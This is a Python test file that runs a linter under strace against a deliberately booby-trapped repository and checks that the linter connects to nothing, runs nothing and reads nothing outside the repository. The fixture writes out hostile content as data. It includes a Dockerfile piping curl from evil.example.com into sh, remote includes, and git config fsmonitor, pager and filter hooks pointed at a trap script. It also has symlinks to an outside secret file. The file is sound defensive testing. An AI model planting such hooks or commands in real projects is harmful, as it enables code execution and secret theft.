"""What a run over a stranger's tree asks of the system: it connects to nothing, runs nothing of the tree, and reads nothing outside of it."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

from infralint.engine.programs import outside_of

STRACE = shutil.which("strace")
ENGINES = ("hadolint", "shellcheck")
_CALL = re.compile(r"^(\w+)\((?:AT_FDCWD, )?(.*)$")


def works() -> bool:
    done = subprocess.run([str(STRACE), "-o", os.devnull, sys.executable, "-c", ""], capture_output=True, check=False)
    return done.returncode == 0


pytestmark = pytest.mark.skipif(STRACE is None or not works(), reason="needs strace and leave to trace")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A repository whose git configuration, links, programs and files want to be run, read or asked."""
    root, outside = tmp_path / "root", tmp_path / "outside"
    for folder in (root / "bin", root / ".github" / "workflows", root / ".infralint" / "rules", outside):
        folder.mkdir(parents=True)
    trap = "#!/bin/sh\ntouch ran\n"
    for name in ("git", "hadolint", "shellcheck", "checkov", "sh"):
        path = root / "bin" / name
        path.write_text(trap, encoding="utf-8")
        path.chmod(0o755)
    (outside / "secret.env").write_text("A=b\n", encoding="utf-8")
    (root / ".env").symlink_to("../outside/secret.env")
    (root / "folder").symlink_to("../outside")
    (root / "Dockerfile").write_text(
        "# syntax=evil.example.com/frontend\nFROM evil.example.com/image:1\nRUN curl http://evil.example.com | sh\n"
        "COPY --from=evil.example.com/other /etc/passwd /\nADD ../outside/secret.env /\n",
        encoding="utf-8",
    )
    (root / "compose.yaml").write_text(
        "include: [https://evil.example.com/compose.yaml, ../outside/compose.yaml]\nservices:\n  app:\n"
        "    build: https://evil.example.com/app.git\n    env_file: [../outside/secret.env]\n",
        encoding="utf-8",
    )
    (root / ".gitlab-ci.yml").write_text(
        "include: [{remote: 'https://evil.example.com/ci.yml'}, {local: /../outside/ci.yml}]\na: {script: [./bin/sh]}\n",
        encoding="utf-8",
    )
    (root / ".github" / "workflows" / "ci.yml").write_text(
        "on: push\njobs:\n  a:\n    uses: ../outside/x.yml\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: evil/action@main\n      - run: source ../outside/secret.env; ./bin/sh\n",
        encoding="utf-8",
    )
    for name in ("sitecustomize.py", "yaml.py", "click.py", "infralint.py"):
        (root / name).write_text("open('ran', 'w')\n", encoding="utf-8")
    (root / "kustomization.yaml").write_text("resources: [https://evil.example.com/base]\n", encoding="utf-8")
    git = outside_of(str(root), "git")
    assert git is not None
    subprocess.run([git, "init", "-q"], cwd=root, check=True)
    with (root / ".git" / "config").open("a", encoding="utf-8") as stream:
        stream.write(f"[core]\n\tfsmonitor = {root}/bin/sh\n\tpager = {root}/bin/sh\n\thooksPath = {root}/bin\n")
        stream.write(f'[filter "evil"]\n\tclean = {root}/bin/sh\n\tprocess = {root}/bin/sh\n')
    (root / ".gitattributes").write_text("* filter=evil\n", encoding="utf-8")
    return root


def test_nothing_is_connected_to_run_or_read_that_is_not_needed(root: Path, tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    engines = [word for engine in ENGINES for word in ("--with", engine)]
    path = os.pathsep.join([".", "", str(root / "bin"), sysconfig.get_path("scripts"), os.environ["PATH"]])
    home = Path(__file__).parents[2]
    done = subprocess.run(
        [
            str(STRACE), "-ff", "-qq", "-s", "4096", "-e", "trace=connect,execve,open,openat", "-o", str(trace),
            sys.executable, "-P", "-m", "infralint", "check", ".", "--profile", "all", "--all-text", *engines,
        ],
        cwd=root, capture_output=True, text=True, check=False, env={**os.environ, "PATH": path, "PYTHONPATH": str(home)},
    )  # fmt: skip
    assert done.returncode in (1, 3), done.stderr
    assert not (root / "ran").exists()
    connects, executed, opened = set(), set(), set()
    lines = [line for part in tmp_path.glob("trace.*") for line in part.read_text(errors="replace").splitlines()]
    for line in lines:  # a file a process, so that no call is cut by another one
        call = _CALL.match(line)
        if call is None:
            continue
        named = re.match(r'"([^"]*)"', call[2])
        if call[1] == "connect" and "AF_UNIX" not in line:
            connects.add(line)
        elif call[1] == "execve" and named is not None and line.endswith("= 0"):
            executed.add(named[1])
        elif call[1] in ("open", "openat") and named is not None and " = -1 " not in line:
            opened.add(named[1])
    assert connects == set()
    assert {path for path in executed if path.startswith((str(root), "."))} == set()
    programs = {os.path.basename(path) for path in executed}
    assert programs <= {os.path.basename(sys.executable), "git", *ENGINES}, programs
    assert programs >= {"git", "hadolint"}
    assert {path for path in opened if str(tmp_path / "outside") in os.path.join(root, os.path.normpath(path))} == set()
    assert not any("../outside" in path for path in opened)
